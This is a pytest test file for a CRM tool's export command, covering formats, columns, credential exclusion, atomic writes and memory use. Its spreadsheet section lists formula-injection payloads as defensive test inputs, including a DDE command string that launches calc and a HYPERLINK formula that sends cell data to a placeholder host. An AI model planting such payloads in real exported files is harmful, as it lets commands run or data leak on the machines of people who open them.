"""What the store knows as files for others: all of it, exactly, safe for spreadsheets, and in flat memory."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections import Counter
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mapping.values import Kind
from regulars import export_files
from regulars.export_files import Format, defused, iso, whole, write_all, writer
from regulars.street import HUBSPOT_TOKEN, MAILCHIMP_KEY
from sync import queries_export, queries_export_base
from sync.queries_export import What
from sync.queries_export_base import BATCH, Heading, Type
from sync.queries_facts import people_facts
from sync.store.database import Database
from tests.cli import facts
from tests.cli.shop import Shop
from tests.docs.pages import ROOT, rows

PAGE = ROOT / "docs" / "export.md"


@pytest.fixture
def filled(shop: Shop) -> Shop:
    """A business with two people and a bit of everything."""
    with facts.opened(shop) as database:
        facts.facts(database)
    return shop


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def written(shop: Shop, what: str, *more: str) -> Any:
    """The rows of an export as JSON Lines."""
    answer = shop.run("export", what, "--format", "jsonl", *more)

    assert answer.code == 0, answer.err
    return [json.loads(line) for line in answer.out.splitlines()]


# ---- what is in it -------------------------------------------------------------------------------------------------


def test_people(filled: Shop) -> None:
    """
    One row a person: what was chosen, where they stand, and where they are known; an address in its parts.
    """
    ada, bo = written(filled, "people")

    assert (ada["id"], ada["name"], ada["email"]) == ("p_ada", "Ada Ahorn", "ada@bakery.example")
    assert (ada["consent"], ada["consent_at"], ada["left_alone"]) == ("granted", "2026-01-01T00:00:00Z", False)
    assert (ada["connections"], ada["records"], ada["segments"]) == (["hubspot"], 1, ["regulars"])
    assert (ada["address_street"], ada["address_city"], ada["address_country"]) == ("Am Markt 1", "Ulm", None)
    assert (ada["score"], ada["hobbies"], ada["phone"]) == (-2.5, ["=sums", "tea"], "+49 30 123456")
    assert (bo["consent"], bo["consent_at"]) == ("withdrawn", "2026-01-01T00:00:00.500Z")
    assert list(ada) == list(bo)


def test_somebody_who_is_left_alone_is_shown_as_such(filled: Shop) -> None:
    """
    Whoever works with the file sees whom to leave in peace.
    """
    assert filled.run("leave-alone", "p_ada").code == 0
    marked = {row["id"]: row["left_alone"] for row in written(filled, "people")}

    assert marked == {"p_ada": True, "p_bo": False}


def test_touchpoints_consent_segments_organizations_and_deals(filled: Shop) -> None:
    """
    Each fact names its person, and the record that it hangs on there.
    """
    met, sent, opened = written(filled, "touchpoints")
    withdrawn, granted = written(filled, "consent")
    (membership,) = written(filled, "segments")
    (organization,) = written(filled, "organizations")
    cake, rolls, melonpan = written(filled, "deals")

    assert (met["person"], met["email"], met["at"]) == ("p_ada", "ada@bakery.example", "2026-01-01T00:00:00Z")
    assert (met["sentiment"], sent["campaign_title"], opened["at"]) == (0.5, "Spring bread", "2026-01-03T00:00:00.002Z")
    assert (opened["connection"], opened["remote_id"], opened["key"]) == ("mailchimp", "b0", "k2")
    assert (withdrawn["person"], withdrawn["explicit"], withdrawn["connection"]) == ("p_bo", True, "mailchimp")
    assert (granted["person"], granted["connection"]) == ("p_ada", None)
    assert membership == {
        "segment": "regulars",
        "person": "p_ada",
        "name": "Ada Ahorn",
        "email": "ada@bakery.example",
        "since": "2026-01-01T00:00:00Z",
    }
    assert (organization["name"], organization["employees"], organization["people"]) == ("Ahorn GmbH", 12, ["p_ada"])
    assert (cake["amount"], cake["amount_minor"], cake["currency"]) == (120.50, 12_050, "EUR")
    assert (cake["people"], cake["organizations"], rolls["closed"]) == (["p_ada"], ["o_1"], None)
    assert (melonpan["amount"], melonpan["amount_minor"]) == (3000, 3000)


def test_the_three_formats_say_the_same(filled: Shop) -> None:
    """
    CSV, JSON Lines and Parquet hold the same rows and the same columns in the same order.
    """
    parquet = pytest.importorskip("pyarrow.parquet")
    for what in What:
        assert filled.run("export", what, "--out", "it.parquet", "--yes").code == 0
        read = parquet.read_table(filled.folder / "it.parquet")
        lines, cells = written(filled, what), table(filled.run("export", what).out)

        assert read.column_names == list(lines[0]) == list(cells[0]), what
        assert len(cells) == len(lines) == read.num_rows
        for line, row in zip(lines, read.to_pylist(), strict=True):
            for name, value in line.items():
                found = row[name]
                if hasattr(found, "isoformat"):
                    found = iso(round(found.timestamp() * 1000))
                assert (float(found) if isinstance(found, Decimal) else found) == value, (what, name)


def test_the_columns_are_those_of_the_page(filled: Shop) -> None:
    """
    docs/export.md names every column in its order: the names are a promise.
    """
    text = PAGE.read_text("utf-8")
    for what in What:
        named = [row[0].strip("`") for row in rows(text, f"### `{what.value}`")]
        columns = list(written(filled, what)[0])

        assert columns[: len(named)] == named, what
        assert what is What.PEOPLE or columns == named


def test_a_field_that_is_called_like_a_column_keeps_a_column_of_its_own(shop: Shop) -> None:
    """
    Two columns never have one name.
    """
    with facts.opened(shop) as database:
        facts.people(database, [("p_1", "hubspot", "1", {"email": "a@b.example", "segments": "none", "id": "x"})])
    path = shop.folder / "regulars.toml"
    own = 'custom = {segments = "their_segments", id = "their_id"}'
    path.write_text(path.read_text("utf-8").replace("[connections.mailchimp]", f"{own}\n\n[connections.mailchimp]"))
    path.write_text("\n".join(line for line in path.read_text("utf-8").splitlines() if "score" not in line))
    (row,) = written(shop, "people")

    assert (row["id"], row["segments"], row["field_segments"], row["field_id"]) == ("p_1", [], "none", "x")


def test_nobody_yet(shop: Shop) -> None:
    """
    An empty store gives the heading alone.
    """
    facts.opened(shop).close()
    pytest.importorskip("pyarrow")
    for what in What:
        assert shop.run("export", what).out.count("\n") == 1
        assert shop.run("export", what, "--format", "jsonl").out == ""
        assert shop.run("export", what, "--out", f"{what}.parquet").code == 0


def test_no_credential_is_in_any_export(settled_town: Shop) -> None:
    """
    Whatever is exported, credentials are not in it.
    """
    texts = [settled_town.run("export", what).out for what in (*What, "decisions")]

    assert all(texts[:1])
    for text in texts:
        assert HUBSPOT_TOKEN not in text
        assert MAILCHIMP_KEY not in text


# ---- spreadsheets --------------------------------------------------------------------------------------------------

ATTACKS = (
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\ttext", "'\ttext"),
    ("  =1+1", "  '=1+1"),
    ('"=1+1', "\"'=1+1"),
    ("＝1+1", "'＝1+1"),
    ("milk; =1+1", "milk; '=1+1"),
    ("two\n=lines", "two\n'=lines"),
    ("+49 30 123456", "'+49 30 123456"),
    ("-", "'-"),
)

HARMLESS = ("", "Ada", "ada@bakery.example", "1-2", "a=b", "0151 26 110", "'=1+1", "bread, -5 °C", "🥐", "2026-01-01")


@pytest.mark.parametrize(("text", "safe"), ATTACKS)
def test_a_cell_that_would_be_a_formula_is_defused(text: str, safe: str) -> None:
    """
    An apostrophe stands in front, and everything else stays readable: a phone number keeps its plus.
    """
    assert defused(text) == safe
    assert defused(safe) == safe


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_cell_stays_as_it_is(text: str) -> None:
    """
    What no spreadsheet executes is not touched.
    """
    assert defused(text) == text


@given(st.text(st.sampled_from("=+-@\t\r\n;\"' aä1,＝|"), max_size=12))
def test_no_part_of_a_cell_begins_a_formula(text: str) -> None:
    """
    However a spreadsheet splits it, no part begins with a sign; taking the apostrophes away gives the text back.
    """
    safe = defused(text)
    for separator in ";\t\r\n":
        safe_parts = [part.lstrip(' "') for part in safe.split(separator)]

        assert not [part for part in safe_parts if part[:1] in ("=", "+", "-", "@", "＝")]
    assert not safe.startswith(("\t", "\r", "\n"))
    assert safe.replace("'", "") == text.replace("'", "")


def test_a_long_cell_takes_no_longer_than_it_must() -> None:
    """
    A hostile value does not keep the export busy.
    """
    for text in ("\n" * 200_000, ";=" * 100_000, " " * 200_000 + "=", '"' * 200_000):
        assert defused(text).replace("'", "") == text


def test_hostile_people_come_out_defused(filled: Shop) -> None:
    """
    In the file itself, a formula is text, quotes are doubled, and numbers are numbers.
    """
    ada, bo = table(filled.run("export", "people").out)
    consent = table(filled.run("export", "consent").out)
    touchpoints = table(filled.run("export", "touchpoints").out)

    assert (bo["family_name"], bo["name"]) == ("'=1+1\"", 'Bo =1+1"')
    assert (ada["hobbies"], ada["phone"], ada["score"]) == ("'=sums; tea", "'+49 30 123456", "-2.5")
    assert consent[0]["evidence"] == "form; '=1+1"
    assert touchpoints[0]["detail"] == "'@home, over cake"


def test_a_heading_is_defused_too() -> None:
    """
    Field names come from a file that somebody wrote.
    """
    out = io.BytesIO()
    made = writer(Format.CSV, [Heading("=1+1")], out, bom=False, misfits=Counter())
    write_all(made, iter([[("x",)]]), lambda _: None)

    assert out.getvalue() == b"'=1+1\r\nx\r\n"


def test_a_byte_order_mark_only_on_request(filled: Shop) -> None:
    """
    UTF-8 without it, unless somebody asks.
    """
    for more, beginning in (((), b"id,"), (("--bom",), b"\xef\xbb\xbfid,")):
        assert filled.run("export", "people", "--out", "people.csv", "--yes", *more).code == 0

        assert (filled.folder / "people.csv").read_bytes().startswith(beginning)


def test_odd_values_are_written_all_the_same() -> None:
    """
    What does not fit its column is left blank and counted in Parquet, and written as it is elsewhere.
    """
    pytest.importorskip("pyarrow")
    headings = [Heading("n", Type.NUMBER), Heading("t"), Heading("l", Type.LIST), Heading("at", Type.TIME)]
    headings.append(Heading("f", Type.FLAG))
    odd = ("many", {"a": 1, "b": ""}, "one", 10**18, "yes")
    misfits: Counter[str] = Counter()
    for kind, expected in ((Format.CSV, b"many,1,one,,yes"), (Format.JSONL, b'"n":"many"'), (Format.PARQUET, b"PAR1")):
        out = io.BytesIO()
        write_all(writer(kind, headings, out, bom=False, misfits=misfits), iter([[odd]]), lambda _: None)

        assert expected in out.getvalue()
    assert misfits == {"n": 1, "f": 1}


def test_times_are_in_utc() -> None:
    """
    To the millisecond where there is one, blank where nothing is known or nobody could live to see it.
    """
    assert [iso(at) for at in (0, None, facts.AT, facts.AT + 7, -facts.DAY, 10**18)] == [
        None,
        None,
        "2026-01-01T00:00:00Z",
        "2026-01-01T00:00:00.007Z",
        "1969-12-31T00:00:00Z",
        None,
    ]


# ---- files ---------------------------------------------------------------------------------------------------------


def test_a_file_is_never_half_and_never_overwritten_unasked(filled: Shop) -> None:
    """
    It is written beside its place and moved there; what is there stays, unless --yes.
    """
    path = filled.folder / "people.csv"
    path.write_text("mine")
    refused = filled.run("export", "people", "--out", "people.csv")
    with pytest.raises(ZeroDivisionError), whole(path) as file:
        file.write(b"half")
        raise ZeroDivisionError

    assert (refused.code, "--yes" in refused.err, path.read_text()) == (2, True, "mine")
    assert sorted(one.name for one in filled.folder.iterdir() if "people.csv" in one.name) == ["people.csv"]
    assert filled.run("export", "people", "--out", "people.csv", "--yes").code == 0
    assert path.read_text("utf-8").startswith("id,name,email")
    assert path.stat().st_mode & 0o077 == 0


def test_the_format_follows_the_name_and_the_answer_says_what_was_done(filled: Shop) -> None:
    """
    `.jsonl` is JSON Lines; --json tells rows, columns and place.
    """
    answer = filled.run("export", "segments", "--out", "who.jsonl", "--json")

    assert answer.json == {
        "exported": "segments",
        "format": "jsonl",
        "rows": 1,
        "columns": ["segment", "person", "name", "email", "since"],
        "file": str(filled.folder / "who.jsonl"),
    }
    assert json.loads((filled.folder / "who.jsonl").read_text("utf-8"))["segment"] == "regulars"


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("people", "--format", "parquet"), "--out"),
        (("people", "--format", "parquet", "--out", "-"), "--out"),
        (("people", "--format", "jsonl", "--bom"), "--bom"),
        (("people", "--json"), "--out"),
        (("people", "--out", "."), "is a folder"),
        (("people", "--out", "nowhere/people.csv"), "cannot be written"),
        (("decisions", "--format", "csv"), "jsonl"),
        (("everything",), "everything"),
    ],
)
def test_what_does_not_go_together_is_refused(filled: Shop, arguments: tuple[str, ...], said: str) -> None:
    """
    Wrong use ends in a sentence that says what to do, and writes nothing.
    """
    answer = filled.run("export", *arguments)

    assert (answer.code, answer.out if "--json" not in arguments else "") == (2, "")
    assert said in answer.err + answer.out


def test_without_the_library_parquet_says_how_to_get_it(filled: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    """
    The error is the command that installs it; nothing is written.
    """
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    answer = filled.run("export", "people", "--out", "people.parquet")

    assert answer.code == 2
    assert "pip install 'regulars[parquet]'" in answer.err
    assert not (filled.folder / "people.parquet").exists()


def test_the_extra_is_what_the_error_names() -> None:
    """
    pyproject.toml has the extra, with a lower bound, and the tests' own set has it too.
    """
    text = (ROOT / "pyproject.toml").read_text("utf-8")

    assert 'parquet = ["pyarrow>=' in text
    assert '    "pyarrow>=' in text
    assert export_files.PARQUET_EXTRA in PAGE.read_text("utf-8")


# ---- many ----------------------------------------------------------------------------------------------------------

MANY = 100_000

_CHILD = """
import re, sys
from regulars.cli import app
def peak():
    return int(re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read())[1]) // 1024
before = peak()
try:
    app(sys.argv[1:])
except SystemExit as end:
    assert not end.code, end.code
print(peak() - before, file=sys.stderr)
"""


def _peak(folder: Path, *arguments: str) -> tuple[int, int]:
    """How many lines an export has, and by how many MiB the process grew meanwhile."""
    out = folder / "many.out"
    with out.open("wb") as file:
        done = subprocess.run(
            [sys.executable, "-c", _CHILD, "-C", str(folder), "export", *arguments],
            stdout=file,
            stderr=subprocess.PIPE,
            cwd=ROOT,
            text=True,
            check=True,
        )
    with out.open("rb") as file:
        return sum(1 for _ in file), int(done.stderr.split()[-1])


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured as Linux counts it")
@pytest.mark.long
def test_a_hundred_thousand_people_take_no_more_memory_than_a_few(shop: Shop) -> None:
    """
    Batches leave as they are read: 100,000 people and as many touchpoints take at most 48 MiB more than starting.
    """
    with facts.opened(shop) as database:
        fields = {"given_name": "Ada", "family_name": "Ahorn", "phone": "+49 30 123456", "company": "Ahorn GmbH"}
        facts.people(
            database,
            [
                (f"p_{n:020}", "hubspot", str(n), {**fields, "email": f"a{n}@mail.example", "score": n})
                for n in range(1, MANY + 1)
            ],
        )
        facts.insert(
            database,
            touchpoint=[
                {"record": n, "at": facts.AT + n, "kind": "opened", "key": str(n), "campaign": "c"}
                for n in range(1, MANY + 1)
            ],
        )

    for what, kind in (("people", "csv"), ("touchpoints", "jsonl")):
        lines, grown = _peak(shop.folder, what, "--format", kind)
        print(f"{what} as {kind}: {lines:,} lines, {grown} MiB")

        assert lines == MANY + (kind == "csv")
        assert grown <= 48


def test_more_than_a_batch_comes_out_whole_and_once(shop: Shop) -> None:
    """
    At the edges of batches nothing is lost and nothing is doubled, in each table.
    """
    number = BATCH + 1
    with facts.opened(shop) as database:
        facts.people(
            database, [(f"p_{n:05}", "hubspot", str(n), {"email": f"a{n}@mail.example"}) for n in range(1, number + 1)]
        )
        kinds = ("clicked", "opened")
        facts.insert(
            database,
            touchpoint=[
                {"record": n // 3 + 1, "at": facts.AT + n % 3, "kind": kind, "key": str(n)}
                for n in range(number)
                for kind in kinds
            ],
            member=[
                {"segment": name, "person": f"p_{n:05}", "since": facts.AT}
                for name in ("a", "b")
                for n in range(1, number + 1)
            ],
        )
    people = [row["id"] for row in written(shop, "people")]
    touched = [(row["key"], row["kind"]) for row in written(shop, "touchpoints")]
    members = [(row["segment"], row["person"]) for row in written(shop, "segments")]

    assert people == [f"p_{n:05}" for n in range(1, number + 1)]
    assert sorted(touched) == sorted((str(n), kind) for n in range(number) for kind in kinds)
    assert members == [(name, person) for name in ("a", "b") for person in people]


def test_both_databases_give_the_same(database: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Row by row, page by page, on SQLite and on PostgreSQL.
    """
    monkeypatch.setattr(queries_export_base, "BATCH", 1)
    facts.facts(database)
    with database.read() as conn:
        found = {what: queries_export.export(what, {"phone": Kind.PHONE, "address": Kind.ADDRESS}) for what in What}
        batches = {what: list(one.batches(conn)) for what, one in found.items()}
        counts = {what: one.count(conn) for what, one in found.items()}
        known = people_facts(conn, ["p_ada", "p_bo"])

    assert counts == {what: sum(map(len, some)) for what, some in batches.items()}
    assert [len(some) for some in batches.values()] == [2, 3, 2, 1, 1, 3]
    assert [some[0][0][-2:] for some in batches.values()] == [
        (None, None),
        ("101", "k0"),
        ("mailchimp", "b0"),
        ("ada@bakery.example", facts.AT),
        ("900", ["hubspot 900"]),
        (["p_ada"], ["o_1"]),
    ]
    assert [touch.kind for touch in known["p_bo"].touchpoints] == ["opened", "sent"]
    assert known["p_ada"].sums()["EUR"] == {"open": 990, "won": 12_050, "lost": 0}


# ---- one person ----------------------------------------------------------------------------------------------------


def test_a_person_shows_what_the_fact_tables_know(filled: Shop) -> None:
    """
    Organisation, deals and their sum per currency, feedback, lists, segments and the last touchpoints.
    """
    ada, bo = filled.run("person", "p_ada"), filled.run("person", "p_bo")

    for said in ("Belongs to Ahorn GmbH (owner, bakery.example, hubspot)", "2 deals: 120.50 EUR won, 9.90 EUR open"):
        assert said in ada.out
    for said in ("1 deal: 3,000 JPY won", "Wedding cake", "Said 9 (nps, 2026-01-01, hubspot): Best rolls"):
        assert said in ada.out
    assert "In the segments: regulars" in ada.out
    assert "2026-01-01 00:00  met   a person  @home, over cake  hubspot" in ada.out
    assert "On the lists: Friends (mailchimp)" in bo.out
    assert "Belongs to Ahorn GmbH (bakery.example, hubspot, until 2026-01-01 00:00)" in bo.out
    assert "opened  from them" in bo.out
    assert "Spring bread" in bo.out


def test_a_person_of_whom_no_fact_is_known_shows_none(shop: Shop) -> None:
    """
    Where nothing is there, nothing is said.
    """
    with facts.opened(shop) as database:
        facts.people(database, [("p_1", "hubspot", "1", {"email": "a@b.example", "given_name": "Ada"})])
    answer = shop.run("person", "p_1")
    document = shop.run("person", "p_1", "--json").json

    for word in ("Belongs", "deal", "Said", "lists", "segments", "touchpoints"):
        assert word not in answer.out
    for name in ("organizations", "touchpoints", "deals", "feedback", "lists", "segments"):
        assert document[name] == []
    assert document["money"] == {}


def test_a_person_as_json_has_exact_amounts(filled: Shop) -> None:
    """
    Money as text, with its currency, and in the smallest unit.
    """
    document = filled.run("person", "p_ada", "--json").json

    assert document["money"]["EUR"]["won"] == {"amount": "120.50", "currency": "EUR", "minor": 12_050}
    assert document["money"]["JPY"]["won"]["amount"] == "3000"
    assert [deal["title"] for deal in document["deals"]] == ["Melonpan", "Wedding cake", "Rolls"]
    assert document["organizations"][0]["organization"] == "o_1"
    assert document["touchpoints"][0]["detail"] == "@home, over cake"


def test_facts_of_many_people_at_once(shop: Shop) -> None:
    """
    The last touchpoints of each, a deal once though two of their records are in it, whoever holds the record.
    """
    with facts.opened(shop) as database:
        facts.facts(database)
        late = [{"record": 1, "at": facts.AT + n, "kind": "noted", "key": f"n{n}"} for n in range(1, 30)]
        facts.insert(database, touchpoint=late, deal_party=[{"record": 2, "deal": 50, "organization": ""}])
        with database.write() as conn:
            conn.exec_driver_sql("UPDATE record SET person = 'p_ada' WHERE id = 2")
        with database.read() as conn:
            known = people_facts(conn, ["p_ada", "p_bo", "p_nobody"])

    ada = known["p_ada"]
    assert [touch.kind for touch in ada.touchpoints] == ["opened", "sent", *["noted"] * 8]
    assert len(ada.deals) == 3
    assert len(ada.organizations) == 2
    assert (known["p_bo"].touchpoints, known["p_nobody"].deals) == ([], [])
